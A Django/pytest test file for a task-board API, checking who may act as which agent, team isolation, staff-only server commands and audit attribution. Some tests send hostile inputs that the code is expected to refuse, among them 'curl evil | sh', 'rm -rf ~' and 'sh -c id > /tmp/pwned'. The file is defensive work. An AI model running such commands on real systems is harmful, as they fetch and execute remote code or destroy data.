"""Who may act as whom (issue 22), through the whole HTTP stack: each refusal asserts
its status, its error code and that nothing was written (rows, event sequences,
revisions, agents, tokens)."""

from __future__ import annotations

import pytest
from django.core.management import CommandError, call_command
from rest_framework.test import APIClient

from board import store
from core import registry, server_commands
from core.models import Agent, AgentToken
from tests.api.conftest import make_client

pytestmark = pytest.mark.django_db


def refused(response, status: int, code: str) -> dict:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    assert body["error"] == code, body
    return body


def token_client(key: str) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    return client


def mint(username: str, agent: str, *extra: str, capsys) -> str:
    call_command("create_agent_token", username, "--agent", agent, *extra)
    return capsys.readouterr().out.strip()


@pytest.fixture
def bob(db):
    """Another member of the default team, owning an agent of his own."""
    client = make_client("bob")
    registry.create_agent(
        id="bob-bot", display_name="Bob", team="default", runtime="human", owner=client.user
    )
    return client


# --- acting as an agent ----------------------------------------------------------


def test_claiming_as_someone_elses_agent_is_403_and_writes_nothing(api, agent, bob, unchanged):
    task = store.create_task(title="t").task
    with unchanged():
        body = refused(
            api.post(f"/api/board/tasks/{task.id}/claim", {"agent_id": "bob-bot"}, format="json"),
            403,
            "forbidden",
        )
        refused(
            api.post("/api/board/claim-next", {"agent_id": "bob-bot"}, format="json"),
            403,
            "forbidden",
        )
        refused(
            api.post(
                "/api/board/tasks", {"title": "x", "created_by_agent_id": "bob-bot"}, format="json"
            ),
            403,
            "forbidden",
        )
        refused(
            api.patch(
                f"/api/board/tasks/{task.id}", {"assignee_agent_id": "bob-bot"}, format="json"
            ),
            403,
            "forbidden",
        )
    assert body["field"] == "agent_id"
    ok = api.post(f"/api/board/tasks/{task.id}/claim", {"agent_id": "ada-bot"}, format="json")
    assert ok.status_code == 200


def test_settling_a_task_held_by_someone_elses_agent_is_403(api, bob, unchanged):
    task = store.create_task(title="t").task
    held = bob.post(f"/api/board/tasks/{task.id}/claim", {"agent_id": "bob-bot"}, format="json")
    ticket = held.json()["ticket"]
    with unchanged():
        for verb, body in (
            ("heartbeat", {"ticket": ticket}),
            ("complete", {"ticket": ticket}),
            ("fail", {"error": "x", "ticket": ticket}),
            ("release", {"ticket": ticket}),
        ):
            refused(
                api.post(f"/api/board/tasks/{task.id}/{verb}", body, format="json"),
                403,
                "forbidden",
            )
    done = bob.post(f"/api/board/tasks/{task.id}/complete", {"ticket": ticket}, format="json")
    assert done.status_code == 200 and done.json()["outcome"] == "recorded"


def test_staff_may_act_as_any_agent(staff_api, bob):
    task = store.create_task(title="t").task
    claimed = staff_api.post(
        f"/api/board/tasks/{task.id}/claim", {"agent_id": "bob-bot"}, format="json"
    )
    assert claimed.status_code == 200


def test_an_agent_of_a_team_you_cannot_see_is_refused_like_an_unknown_one(api, unchanged):
    registry.create_team("red", "Red")
    registry.create_agent(id="red-bot", display_name="R", team="red", runtime="human")
    task = store.create_task(title="t").task
    with unchanged():
        hidden = refused(
            api.post(f"/api/board/tasks/{task.id}/claim", {"agent_id": "red-bot"}, format="json"),
            400,
            "validation_error",
        )
        ghost = refused(
            api.post(f"/api/board/tasks/{task.id}/claim", {"agent_id": "ghost"}, format="json"),
            400,
            "validation_error",
        )
    assert hidden["detail"] == ghost["detail"].replace("ghost", "red-bot")


def test_filing_a_task_as_an_agent_of_a_team_you_cannot_see_names_neither(api, unchanged):
    """``created_by_agent_id`` naming another team's agent was answered "agent X is of
    team Y", where an unknown id is "no agent X": it named a team the caller cannot
    see, and told it that agent exists. Now both are the same 400."""
    registry.create_team("red", "Red")
    registry.create_agent(id="red-bot", display_name="R", team="red", runtime="human")
    with unchanged():
        hidden, ghost = (
            refused(
                api.post(
                    "/api/board/tasks",
                    {"title": "t", "created_by_agent_id": agent},
                    format="json",
                ),
                400,
                "validation_error",
            )
            for agent in ("red-bot", "ghost")
        )
    assert "red" not in hidden["detail"].replace("red-bot", "")
    assert hidden == {**ghost, "detail": ghost["detail"].replace("ghost", "red-bot")}


def test_a_token_minted_for_agent_a_cannot_act_as_agent_b(db, capsys, unchanged):
    key_a = mint("carol", "carol-a", capsys=capsys)
    registry.create_agent(
        id="carol-b",
        display_name="B",
        team="default",
        runtime="human",
        owner=Agent.objects.get(pk="carol-a").owner,
    )
    as_a = token_client(key_a)
    task = store.create_task(title="t").task
    with unchanged():
        body = refused(
            as_a.post(f"/api/board/tasks/{task.id}/claim", {"agent_id": "carol-b"}, format="json"),
            403,
            "forbidden",
        )
        refused(
            as_a.post("/api/board/claim-next", {"agent_id": "carol-b"}, format="json"),
            403,
            "forbidden",
        )
    assert "acts as agent 'carol-a' only" in body["detail"]
    claimed = as_a.post("/api/board/claim-next", {"agent_id": "carol-a"}, format="json")
    assert claimed.status_code == 200 and claimed.json()["task"]["assignee_agent_id"] == "carol-a"
    # Whatever carol-b then holds, carol-a's token may not settle it.
    other = store.create_task(title="u").task
    ticket = store.claim(other.id, "carol-b").ticket
    with unchanged():
        refused(
            as_a.post(f"/api/board/tasks/{other.id}/complete", {"ticket": ticket}, format="json"),
            403,
            "forbidden",
        )


def test_create_agent_token_with_agent_registers_it_once_and_refuses_a_strangers(db, capsys):
    first = mint("dave", "dave-bot", "--team", "default", capsys=capsys)
    agent = Agent.objects.get(pk="dave-bot")
    assert agent.owner.username == "dave" and agent.runtime == "human"
    second = mint("dave", "dave-bot", capsys=capsys)
    assert first != second and AgentToken.objects.filter(agent=agent).count() == 2
    assert token_client(first).get("/api/whoami").json()["username"] == "dave"
    with pytest.raises(CommandError, match="belongs to another user"):
        call_command("create_agent_token", "eve", "--agent", "dave-bot")
    # Without --agent it still mints (or shows) the user's own key, as before.
    call_command("create_agent_token", "dave")
    assert len(capsys.readouterr().out.strip()) == 40


def test_an_agent_minted_by_create_agent_token_reads_as_an_agent_in_the_admin(
    db, admin_client, capsys
):
    # The admin listed "ada-bot" as runtime "Human", participant kind "Agent".
    call_command("create_agent_token", "ada", "--agent", "ada-bot")
    said = capsys.readouterr().err
    agent = Agent.objects.get(pk="ada-bot")
    assert agent.participant_kind == "agent"
    page = admin_client.get("/admin/clawboo/agent/").content.decode()
    row = page[page.index("ada-bot") :].split("</tr>")[0]
    assert ">Human<" not in row and "acts through the API" in row, row
    assert "Human" not in said, said
    assert "acts through the API" in said and "kind 'Agent'" in said, said


def test_create_agent_token_names_the_runtime_it_registered_not_none(db, capsys):
    # It said "runtime 'None — acts through the API (…)'": the admin's label, which
    # reads as no runtime at all.
    call_command("create_agent_token", "ada", "--agent", "ada-bot")
    said = capsys.readouterr().err
    assert "None" not in said, said
    assert "runtime 'human' (it acts through the API with this key" in said, said


def test_changing_an_agent_needs_its_owner(api, bob, unchanged):
    with unchanged():
        refused(
            api.patch("/api/agents/bob-bot", {"display_name": "mine"}, format="json"),
            403,
            "forbidden",
        )
    assert (
        bob.patch("/api/agents/bob-bot", {"display_name": "B2"}, format="json").status_code == 200
    )


# --- what runs on the server ----------------------------------------------------


def test_a_non_staff_user_cannot_register_a_server_side_command(api, unchanged):
    agent = {
        "id": "evil",
        "display_name": "Evil",
        "team": "default",
        "runtime": "command",
        "settings": {"argv": ["sh", "-c", "id > /tmp/pwned"]},
    }
    with unchanged():
        refused(api.post("/api/agents", agent, format="json"), 403, "forbidden")
        refused(
            api.post(
                "/api/agents", {**agent, "runtime": "claude-code", "settings": {}}, format="json"
            ),
            403,
            "forbidden",
        )
    made = api.post(
        "/api/agents", {**agent, "id": "me", "runtime": "human", "settings": {}}, format="json"
    )
    assert made.status_code == 201 and made.json()["owner"] == "ada"
    with unchanged():
        refused(
            api.patch(
                "/api/agents/me",
                {"runtime": "command", "settings": agent["settings"]},
                format="json",
            ),
            403,
            "forbidden",
        )


def test_an_allowlisted_agent_may_be_registered_by_anyone(api, settings):
    settings.CLAWBOO_AGENT_ALLOWLIST = [{"runtime": "claude-code", "settings": {"model": "opus"}}]
    body = {"id": "cc", "display_name": "CC", "team": "default", "runtime": "claude-code"}
    assert (
        api.post(
            "/api/agents", {**body, "settings": {"model": "opus", "timeout_s": 60}}, format="json"
        ).status_code
        == 201
    )
    refused(
        api.post(
            "/api/agents",
            {**body, "id": "cc2", "settings": {"model": "opus", "extra_args": ["--x"]}},
            format="json",
        ),
        403,
        "forbidden",
    )


def test_task_commands_are_staff_only_unless_allowlisted(api, staff_api, settings, unchanged):
    with unchanged():
        body = refused(
            api.post(
                "/api/board/tasks",
                {"title": "t", "metadata": {"verify_cmd": "curl evil | sh"}},
                format="json",
            ),
            403,
            "forbidden",
        )
    assert body["field"] == "metadata.verify_cmd"
    task = store.create_task(title="t").task
    with unchanged():
        refused(
            api.patch(
                f"/api/board/tasks/{task.id}",
                {"metadata": {"install_cmd": "rm -rf ~"}},
                format="json",
            ),
            403,
            "forbidden",
        )
    settings.CLAWBOO_TASK_COMMAND_ALLOWLIST = ["make test"]
    assert (
        api.post(
            "/api/board/tasks",
            {"title": "t", "metadata": {"verify_cmd": "make test"}},
            format="json",
        ).status_code
        == 201
    )
    assert (
        staff_api.post(
            "/api/board/tasks",
            {"title": "t", "metadata": {"verify_cmd": "pytest -q"}},
            format="json",
        ).status_code
        == 201
    )


def test_the_executor_re_checks_what_an_agent_runs_before_it_claims_or_runs(
    staff_api, tmp_path, settings
):
    from executor.runner import Executor

    settings.CLAWBOO_STATE_DIR = tmp_path
    made = staff_api.post(
        "/api/agents",
        {
            "id": "ok",
            "display_name": "OK",
            "team": "default",
            "runtime": "command",
            "settings": {"argv": ["true"]},
        },
        format="json",
    )
    assert made.status_code == 201
    task = store.create_task(title="t", file_mutating=False).task
    assert Executor("ok").work_once().outcome == "succeeded"
    # Changed around the registry (a raw UPDATE, an old row, a restored backup): refused.
    Agent.objects.filter(pk="ok").update(settings={"argv": ["sh", "-c", "echo pwned"]})
    other = store.create_task(title="u", file_mutating=False).task
    report = Executor("ok").work_once()
    assert report.outcome == "refused" and "not approved by an operator" in report.error
    assert store.get_task(other.id).status == "todo" and store.get_task(task.id).status == "done"
    # Claimed some other way, run_claimed refuses it too, before anything runs.
    ticket = store.claim(other.id, "ok").ticket
    assert Executor("ok").run_claimed(other.id, ticket).outcome == "refused"
    assert "not approved by an operator" in (store.get_task(other.id).error or "")
    # An operator's approval (here the CLI's) lets it run again.
    call_command("approve_agents", "ok")
    assert server_commands.agent_run_refusal(Agent.objects.get(pk="ok")) is None


# --- team walls -------------------------------------------------------------------


@pytest.fixture
def red(db):
    registry.create_team("red", "Red")
    return store.create_task(title="red secret", team="red").task


def test_depends_on_and_parent_of_another_team_are_refused_like_unknown_ids(api, red, unchanged):
    with unchanged():
        hidden = refused(
            api.post("/api/board/tasks", {"title": "x", "depends_on": [red.id]}, format="json"),
            400,
            "validation_error",
        )
        ghost = refused(
            api.post("/api/board/tasks", {"title": "x", "depends_on": ["ghost"]}, format="json"),
            400,
            "validation_error",
        )
        assert hidden["detail"] == ghost["detail"].replace("ghost", red.id)
        hidden = refused(
            api.post("/api/board/tasks", {"title": "x", "parent_task_id": red.id}, format="json"),
            400,
            "validation_error",
        )
        ghost = refused(
            api.post("/api/board/tasks", {"title": "x", "parent_task_id": "ghost"}, format="json"),
            400,
            "validation_error",
        )
        assert hidden["detail"] == ghost["detail"].replace("ghost", red.id)


def test_even_staff_cannot_link_across_teams(staff_api, red, unchanged):
    mine = store.create_task(title="mine").task
    with unchanged():
        refused(
            staff_api.post(
                "/api/board/tasks", {"title": "x", "depends_on": [red.id]}, format="json"
            ),
            400,
            "validation_error",
        )
        refused(
            staff_api.post(
                f"/api/board/tasks/{mine.id}/deps", {"depends_on": red.id}, format="json"
            ),
            400,
            "validation_error",
        )
        # Naming its team: a subtask naming none is filed in its parent's team.
        refused(
            staff_api.post(
                "/api/board/tasks",
                {"title": "x", "team": "default", "parent_task_id": red.id},
                format="json",
            ),
            400,
            "validation_error",
        )


def test_cancel_dependents_never_crosses_a_team(staff_api, red):
    from board.models import TaskDep

    mine = store.create_task(title="waits on red", status="todo").task
    # A link from before dependencies were kept within a team (written as it was then).
    TaskDep.objects.create(task_id=mine.id, depends_on_id=red.id, created_at=store.now())
    response = staff_api.post(f"/api/board/tasks/{red.id}/cancel-dependents", {}, format="json")
    assert response.status_code == 200 and response.json() == {"cancelled": []}
    assert store.get_task(mine.id).status == "todo"


def test_filters_never_reach_another_team(api, red):
    child = store.create_task(title="child", team="red", parent_task_id=red.id, labels=["x"]).task
    store.claim(child.id, "red-bot")
    for query in ("team=red", f"parent={red.id}", "label=x", "assignee=red-bot"):
        response = api.get(f"/api/board/tasks?{query}")
        assert response.status_code == 200 and response.json()["results"] == [], query
    assert api.get(f"/api/board/tasks/{red.id}").status_code == 404
    assert api.get("/api/teams/red/events").status_code == 404


# --- idempotent repeats and the audit ---------------------------------------------


def test_a_repeat_complete_is_unchanged_and_writes_nothing(api, agent, unchanged):
    task = store.create_task(title="t").task
    ticket = store.claim(task.id, "ada-bot").ticket
    first = api.post(
        f"/api/board/tasks/{task.id}/complete",
        {"ticket": ticket, "output": {"n": 1}},
        format="json",
    )
    assert first.json()["outcome"] == "recorded"
    with unchanged():
        again = api.post(f"/api/board/tasks/{task.id}/complete", {}, format="json")
    assert again.status_code == 200 and again.json()["outcome"] == "unchanged"
    assert again.json()["task"]["output"] == {"n": 1}


def test_overrides_and_moves_record_the_authenticated_user(api, unchanged):
    from core.models import Event

    task = store.create_task(title="t").task
    store.claim(task.id, "x")
    store.set_verdict(task.id, "fail", "red")
    with unchanged():
        body = refused(
            api.post(
                f"/api/board/tasks/{task.id}/transition",
                {"to": "done", "human_override": {"by": "grace", "reason": "flake"}},
                format="json",
            ),
            400,
            "validation_error",
        )
    assert body["field"] == "human_override.by"
    done = api.post(
        f"/api/board/tasks/{task.id}/transition",
        {"to": "done", "human_override": {"reason": "flake"}},
        format="json",
    )
    assert done.status_code == 200
    assert store.get_task(task.id).human_override["by"] == "ada"
    kinds = {e.kind: e.payload.get("actor") for e in Event.objects.filter(task_id=task.id)}
    assert kinds["verification_overridden"] == "ada" and kinds["completed"] == "ada"
    comment = api.post(f"/api/board/tasks/{task.id}/comments", {"body": "hi"}, format="json")
    assert comment.json()["author"] == "ada"
    with unchanged():
        refused(
            api.post(
                f"/api/board/tasks/{task.id}/comments",
                {"body": "hi", "author": "grace"},
                format="json",
            ),
            400,
            "validation_error",
        )


def test_the_admins_bulk_move_reports_unchanged_rows(client, unchanged):
    from django.contrib.auth import get_user_model

    client.force_login(get_user_model().objects.create_superuser("op", "op@x", "pw"))
    task = store.create_task(title="t", status="backlog").task
    with unchanged():
        page = client.post(
            "/admin/board/task/",
            {"action": "move_to_backlog", "_selected_action": [task.id]},
            follow=True,
        )
    texts = [str(m) for m in page.context["messages"]]
    assert any(t.startswith("Unchanged") and task.id in t for t in texts), texts


def test_a_non_staff_teammate_logs_in_to_the_board_not_the_admin(db):
    from django.contrib.auth import get_user_model
    from django.test import Client

    user = get_user_model().objects.create_user("bea", password="pw")
    registry.add_member("default", user)
    registry.create_team("red", "Red")
    browser = Client()
    assert browser.get("/board/")["Location"].startswith("/board/login/")
    logged = browser.post("/board/login/", {"username": "bea", "password": "pw"})
    assert logged.status_code == 302 and logged["Location"] == "/board/"
    page = browser.get("/board/")
    assert page.status_code == 200 and [t.id for t in page.context["teams"]] == ["default"]
    assert browser.get("/admin/").status_code == 302  # the admin's login, for staff
    refused_admin = Client().post("/admin/login/", {"username": "bea", "password": "pw"})
    assert refused_admin.status_code == 200  # the form again: not staff
    assert browser.post("/board/logout/").status_code == 302
    assert browser.get("/board/").status_code == 302
